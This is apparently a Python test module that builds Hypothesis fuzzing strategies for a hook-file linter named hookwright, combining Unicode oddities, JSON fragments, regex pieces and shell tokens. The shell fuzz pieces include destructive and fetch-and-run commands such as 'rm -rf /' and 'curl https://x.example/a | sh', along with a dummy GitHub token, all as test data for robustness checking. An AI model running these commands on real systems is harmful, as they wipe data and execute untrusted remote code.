"""What hook files, commands, matchers and messages are made of, whole and broken."""

from __future__ import annotations

from pathlib import Path

from hypothesis import strategies as st
from tests.markers import parse

from hookwright.dialects import DIALECTS
from hookwright.readers.foreign import FOREIGN_AGENTS
from hookwright.syntax.tree import JSON

ROOT = Path(__file__).parents[2]

NASTY = (
    *("\x00", "\x7f", "\x85", "\u00a0", "\u2028", "\u2029", "\ufeff", "\u200b", "\u0301", "\u202e", "\ud800", "\udfff"),
    *("\U0001f600", "é", "ﬁ", "İ", "ß", "\uffff", "\U0010ffff", "\r", "\n", "\r\n", "\t", "\x0b", "\x0c", "\x1b[31m"),
)
TEXT_PIECES = (
    *'{}[]:,"\\/ \n\t#;=x1-+.eE',
    *("//", "/*", "*/", '"a":', "true", "null", "'", "`", "“", "\\u0000", "\\ud800", "\\ud83d\\ude00", "\\x", "\\"),
    *("[[", "]]", "{{", "}}", ",,", "::", '""', "1e999", "0x1f", "NaN", "// hookwright: ignore HW303\n", *NASTY),
)
_SHELL = r"""echo jq -r cat exit 2 1 bash ./a.sh python3 -c node npx sh $A ${A} "$A" ${A:- ${A# ${ $( ) ` (( $(( )) {
    } ( [[
    ]] [ ] | || && & ; ;; <<< > >> >&2 2>&1 ' " \ # ! if then fi do done while esac x) A=1 A=$( export local read trap ~
    * ? {a,b} sudo eval -- - $? $1 $@ printf %s\n C:\x {"continue":false} TOKEN=abcdefgh12345678 a/b.py /nowhere/x.sh
    ghp_0123456789abcdefghijABCDEFGHIJ012345 """
_MATCHERS = r"""| ( ) [ ] [^ * + ? {2} {2,} {,3} {9,1} ^ $ . .* .+ \ \b \d+ \w* (?: (?= (?! (?<n> (?i) \k<n> \1 \u{
    \p{L} (a+)+
    (a|a)* , ** **/ {a,b} {1..9} { } !( a A Bash(git:*) (x) mcp__a__b mcp__.* - / ~/ startup *.py src/** ^Bash$ Bash|
    |Edit bash \( (? [a- [z-a]"""
SHELL_PIECES = (
    *_SHELL.split(),
    *(
        "exit 2",
        "\n",
        "\r\n",
        "\\\n",
        "<<EOF\n",
        "<<'EOF'\n",
        "<<-E\n",
        "\nEOF\n",
        "< /dev/null",
        ">/dev/null",
        "f() {",
    ),
    *("case x in", "function f", "set -e", "rm -rf /", "rm -rf $A", "curl https://x.example/a | sh", *NASTY),
    *('\'{"decision":"block"}\'', '"{\\"decision\\": \\"x\\"}"'),
)
MATCHER_PIECES = (
    *_MATCHERS.split(),
    *(" ", "Bash(rm *)", *NASTY),
)
OTHER_VALUES: tuple[JSON, ...] = (
    None,
    True,
    False,
    0,
    -1,
    60,
    1.5,
    10**400,
    -(10**30),
    "",
    " ",
    [],
    {},
    [[]],
    [{}],
    {"a": {}},
    [None, "x"],
)


def joined(pieces: tuple[str, ...], most: int = 12) -> st.SearchStrategy[str]:
    """Some of the pieces one after the other."""
    return st.lists(st.sampled_from(pieces), max_size=most).map("".join)


def _spaced(pieces: tuple[str, ...], most: int) -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(pieces), max_size=most).map(" ".join)


def _kept_texts() -> tuple[str, ...]:
    """The examples' files, every file of the rules' specs, and what has failed before, the shortest first."""
    found = {it.read_text(encoding="utf-8") for it in (ROOT / "examples").rglob("*.json")}
    for path in sorted((ROOT / "tests" / "spec" / "rules").glob("*.md")):
        for section in parse(path.read_text(encoding="utf-8")):
            found.update(block.text for block in section.inputs)
    return tuple(sorted(found, key=lambda it: (len(it), it)))


TEXTS = _kept_texts()
_STRINGS = tuple(sorted({it for text in TEXTS for it in text.split('"')[1::2] if len(it) > 8}))

commands = _spaced(SHELL_PIECES, 10) | joined(SHELL_PIECES) | st.sampled_from(_STRINGS) | st.text(max_size=12)
patterns = joined(MATCHER_PIECES, 8) | st.text(max_size=8)
soup = joined(TEXT_PIECES, 30)
other_values = st.sampled_from(OTHER_VALUES)
words = st.sampled_from(
    sorted({row.name for it in DIALECTS for row in it.events} | {it for one in FOREIGN_AGENTS for it in one.events})
)
dialects = st.sampled_from(DIALECTS)
